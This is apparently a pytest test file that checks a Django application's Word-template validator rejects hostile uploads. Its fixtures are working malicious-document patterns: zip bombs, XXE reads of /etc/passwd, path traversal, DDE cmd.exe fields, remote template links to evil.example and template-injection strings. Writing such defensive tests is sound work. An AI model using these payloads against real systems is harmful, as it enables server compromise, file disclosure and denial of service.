"""Word templates that do harm, or that are broken, are refused before anything in them is used (AGR-03)."""

from __future__ import annotations

import io
import random
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable

import pytest
from django.utils.translation import override

from roomnight.kernel.errors import Refusal
from roomnight.kernel.tests.word_files import (
    MAIN,
    TYPES,
    in_body,
    meddled,
    packed,
    parts_of,
    plain,
    related,
    replaced,
    with_part,
)
from roomnight.kernel.word import Values, Vocabulary, check_template, fill_template, open_package

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = ' TargetMode="External"'
W_PART = "application/vnd.openxmlformats-officedocument.wordprocessingml"
VOCABULARY = Vocabulary({"client_name": "client_name"}, {"rates": "rates"}, {"rates": {"room": "room", "rate": "rate"}})
MOST_SECONDS, MOST_KILOBYTES = 5.0, 60 * 1024


def word_field(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(
            f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction.split("|")
        )
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def zip_of(entries: list[tuple[str, bytes]]) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return kept.getvalue()


def bomb() -> bytes:
    return packed({**parts_of(plain("x")), "customXml/item9.xml": b"<a>" + b" " * 3_900_000 + b"</a>"})


def many_middling() -> bytes:
    filler = {f"customXml/item{n}.xml": b"<a>" + bytes(range(32, 60)) * 70_000 + b"</a>" for n in range(20)}
    return packed({**parts_of(plain("x")), **filler})


def lying() -> bytes:
    """A part that says it is small, and is not."""
    data = bytearray(bomb())
    size = struct.pack("<I", 3_900_007)
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = struct.pack("<I", 100)
    return bytes(data)


def overlapping() -> bytes:
    """Two parts that share their bytes."""
    parts = parts_of(plain("x"))
    data = bytearray(packed({**parts, "customXml/itemA.xml": b"<a/>", "customXml/itemB.xml": b"<a/>"}))
    first = data.find(b"PK\x03\x04", data.find(b"customXml/itemA.xml") - 31)
    central = data.rfind(b"customXml/itemB.xml") - 46
    data[central + 42 : central + 46] = struct.pack("<I", first)
    return bytes(data)


def locked() -> bytes:
    data = bytearray(plain("x"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        data[at + place] |= 1
    return bytes(data)


def utf16() -> bytes:
    parts = parts_of(plain("x"))
    said = parts[MAIN].decode().replace("UTF-8", "UTF-16")
    return packed({**parts, MAIN: said.encode("utf-16")})


def entities() -> bytes:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return meddled(replaced(MAIN, "<w:document", f'<!DOCTYPE d [<!ENTITY l0 "ha">{lol}]><w:document'))


def deep_tables() -> bytes:
    opened = "<w:tbl><w:tr><w:tc>" * 60
    return meddled(in_body(f"{opened}<w:p/>{'</w:tc></w:tr></w:tbl>' * 60}"))


def too_much() -> bytes:
    noise = random.Random(1).randbytes(640_000).hex()
    return meddled(in_body("".join(f"<w:p/>{noise[at : at + 4]}" for at in range(0, 1_240_000, 4))))


HARMFUL: list[tuple[str, str, Callable[[], bytes]]] = [
    ("nothing", "empty", lambda: b""),
    ("text", "not_docx", lambda: b"plain text"),
    ("old Word", "not_docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ("too large", "too_large", lambda: b"PK\x03\x04" + b"\0" * (5 * 1024 * 1024)),
    ("cut off", "damaged", lambda: plain("x")[:9000]),
    ("wrong bytes", "damaged", lambda: plain("x").replace(b"PK\x01\x02", b"PK\x09\x02")),
    ("another zip", "not_docx", lambda: zip_of([("a.txt", b"a")])),
    ("a spreadsheet", "embedded", lambda: meddled(replaced(TYPES, f"{W_PART}.document.main+xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"))),
    ("a template of Word", "part", lambda: meddled(replaced(TYPES, f"{W_PART}.document.main+xml", f"{W_PART}.template.main+xml"))),
    ("with macros by type", "macros", lambda: meddled(replaced(TYPES, f"{W_PART}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
    ("with macros", "macros", lambda: meddled(with_part("word/vbaProject.bin", b"\xd0\xcf", "application/vnd.ms-office.vbaProject"))),
    ("with macros that hide", "part", lambda: meddled(with_part("word/notes.bin", b"\xd0\xcf", "application/octet-stream"))),
    ("with ActiveX", "macros", lambda: meddled(with_part("word/activeX/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"))),
    ("with an own ribbon", "macros", lambda: meddled(with_part("customUI/customUI.xml", b"<a/>", "application/xml"))),
    ("with another file", "embedded", lambda: meddled(with_part("word/embeddings/a.bin", b"x", "application/vnd.openxmlformats-officedocument.oleObject"))),
    ("with a chunk of HTML", "embedded", lambda: meddled(related(f"{OFFICE}/aFChunk", "styles.xml"))),
    ("with HTML inside", "part", lambda: meddled(with_part("word/a.html", b"<script>", "text/html"))),
    ("shows a chunk", "embedded", lambda: meddled(in_body('<w:altChunk xmlns:r="x" r:id="rId1"/>'))),
    ("shows an object", "embedded", lambda: meddled(in_body("<w:p><w:r><w:object/></w:r></w:p>"))),
    ("takes another document in", "embedded", lambda: meddled(in_body('<w:subDoc xmlns:r="x" r:id="rId1"/>'))),
    ("a template far away", "outside", lambda: meddled(related(f"{OFFICE}/attachedTemplate", "https://evil.example/a.dotm", EXTERNAL))),
    ("a picture far away", "outside", lambda: meddled(related(f"{OFFICE}/image", "http://evil.example/a.png", EXTERNAL))),
    ("a picture in a share", "outside", lambda: meddled(related(f"{OFFICE}/image", "\\\\evil\\a.png"))),
    ("a file of the server", "outside", lambda: meddled(related(f"{OFFICE}/image", "file:///etc/passwd"))),
    ("a link", "outside", lambda: meddled(related(f"{OFFICE}/hyperlink", "https://hotel.example", EXTERNAL))),
    ("a linked picture", "outside", lambda: meddled(in_body('<w:p xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></w:p>'))),
    ("a way out of the zip", "name", lambda: meddled(with_part("../../etc/cron.d/a", b"x", "application/xml"))),
    ("a part from the root", "name", lambda: meddled(with_part("/etc/a.xml", b"<a/>", "application/xml"))),
    ("a part twice", "name", lambda: meddled(with_part("WORD/document.xml", b"<a/>", "application/xml"))),
    ("a reference to nothing", "damaged", lambda: meddled(related(f"{OFFICE}/image", "../../../etc/passwd"))),
    ("a program in a field", "field", lambda: meddled(in_body(word_field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"')))),
    ("a program in pieces", "field", lambda: meddled(in_body(word_field(" DDE|AUTO| calc")))),
    ("a program put together", "field", lambda: meddled(in_body(word_field("QUOTE 68 68 69")))),
    ("a field without a name", "field", lambda: meddled(in_body(word_field(" ")))),
    ("text from a file", "field", lambda: meddled(in_body('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p>'))),
    ("a picture in a field", "field", lambda: meddled(in_body(word_field('INCLUDEPICTURE "http://evil.example/a.png"')))),
    ("a link in a field", "field", lambda: meddled(in_body(word_field('HYPERLINK "http://evil.example"')))),
    ("a bomb", "bomb", bomb),
    ("many that are large together", "bomb", many_middling),
    ("a part that lies", "damaged", lying),
    ("parts over each other", "bomb", overlapping),
    ("too many parts", "parts", lambda: packed({**parts_of(plain("x")), **{f"customXml/i{n}.xml": b"<a/>" for n in range(400)}})),
    ("locked", "locked", locked),
    ("entities", "dtd", entities),
    ("an entity of a file", "dtd", lambda: meddled(replaced(MAIN, "<w:document", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'))),
    ("entities of a part aside", "dtd", lambda: meddled(with_part("customXml/item7.xml", b"<!DOCTYPE a><a/>", "application/xml"))),
    ("another encoding", "encoding", utf16),
    ("an encoding that hides", "encoding", lambda: meddled(replaced(MAIN, "UTF-8", "UTF-7"))),
    ("broken markup", "damaged", lambda: meddled(replaced(MAIN, "</w:body>", ""))),
    ("a thousand deep", "damaged", lambda: meddled(in_body("<w:sdt>" * 1000 + "</w:sdt>" * 1000))),
    ("too much markup", "markup", too_much),
    ("a picture that is none", "picture", lambda: meddled(with_part("word/media/a.png", b"MZ\x90", "image/png"))),
    ("a picture with a program", "picture", lambda: meddled(with_part("word/media/a.svg", b"<svg/>", "image/svg+xml"))),
]  # fmt: skip


@pytest.mark.rule("AGR-03")
@pytest.mark.parametrize(("code", "make"), [one[1:] for one in HARMFUL], ids=[one[0] for one in HARMFUL])
def test_a_harmful_file_is_refused_in_a_sentence_in_time_and_memory(code, make):
    data = make()
    began = time.monotonic()
    with pytest.raises(Refusal) as refused:
        open_package(data)
    assert time.monotonic() - began < MOST_SECONDS
    assert (refused.value.code, refused.value.field) == (f"word.{code}", "file")
    assert str(refused.value).endswith((".", "。"))


MEASURE = """
import resource, sys
import django
django.setup()
from roomnight.kernel.errors import Refusal
from roomnight.kernel.word import open_package
with open(sys.argv[1], "rb") as file:
    data = file.read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    open_package(data)
except Refusal as refused:
    print(refused.code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.rule("AGR-03")
@pytest.mark.parametrize("make", [bomb, many_middling, lying, overlapping, entities, too_much])
def test_what_would_fill_the_memory_does_not(make, tmp_path):
    file = tmp_path / "a.docx"
    file.write_bytes(make())
    said = subprocess.run(
        [sys.executable, "-c", MEASURE, str(file)], capture_output=True, text=True, timeout=60, check=True
    ).stdout.split()
    assert said[0].startswith("word.")
    assert int(said[1]) < MOST_KILOBYTES


@pytest.mark.rule("AGR-03")
@pytest.mark.parametrize(
    "text",
    [
        "{{ client_name.__class__ }}",
        "{{ client_name.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ client_name['x'] }}",
        "{{ client_name() }}",
        "{{ client_name|attr('x') }}",
        "{{ client_name|upper }}",
        "{{ self }}",
        "{{ 7*7 }}",
        "{{ _secret }}",
        "{{ config.items }}",
        "{% import os %}",
        "{% include '/etc/passwd' %}",
        "{% set x = 1 %}",
        "{% if client_name == 'x' %}a{% endif %}",
        "{% for x in range(9) %}{% endfor %}",
        "{{ client_name",
        "{% if client_name %}a",
        "{% endif %}",
        "{% else %}",
    ],
)
def test_code_and_walks_over_attributes_are_no_part_of_the_language(text):
    data = plain(text)
    problems = check_template(data, VOCABULARY)
    assert [one.paragraph for one in problems][:1] == [1]
    with pytest.raises(Refusal) as refused:
        fill_template(data, VOCABULARY, Values({"client_name": "x"}))
    assert refused.value.code == "word.problems"


def test_tables_in_tables_and_repetitions_in_repetitions_come_to_an_end():
    with pytest.raises(Refusal) as refused:
        check_template(deep_tables(), VOCABULARY)
    assert refused.value.code == "word.markup"
    nested = ["{% for a in rates %}"] * 6 + ["{{ a.room }}"] + ["{% endfor %}"] * 6
    assert {one.code for one in check_template(plain(*nested), VOCABULARY)} >= {"deep"}
    ifs = ["{% if client_name %}"] * 300 + ["{% endif %}"] * 300
    assert {one.code for one in check_template(plain(*ifs), VOCABULARY)} >= {"deep"}
    with pytest.raises(Refusal) as refused:
        check_template(plain("{{ client_name }}" * 2500), VOCABULARY)
    assert refused.value.code == "word.markup"


@pytest.mark.rule("AGR-03")
def test_a_document_that_would_grow_without_end_is_given_up_soon():
    nested = ["{% for a in rates %}"] * 3 + ["{{ a.room }}"] + ["{% endfor %}"] * 3
    rows = [{"room": "x" * 50, "rate": "1"}] * 400
    began = time.monotonic()
    with pytest.raises(Refusal) as refused:
        fill_template(plain(*nested), VOCABULARY, Values({}, {"rates": rows}))
    assert refused.value.code == "word.too_long"
    assert time.monotonic() - began < MOST_SECONDS * 4


def test_what_is_refused_is_said_in_chinese_too():
    with override("zh-hans"), pytest.raises(Refusal) as refused:
        open_package(b"text")
    assert "Word 文档" in str(refused.value)
    assert str(refused.value).endswith("。")
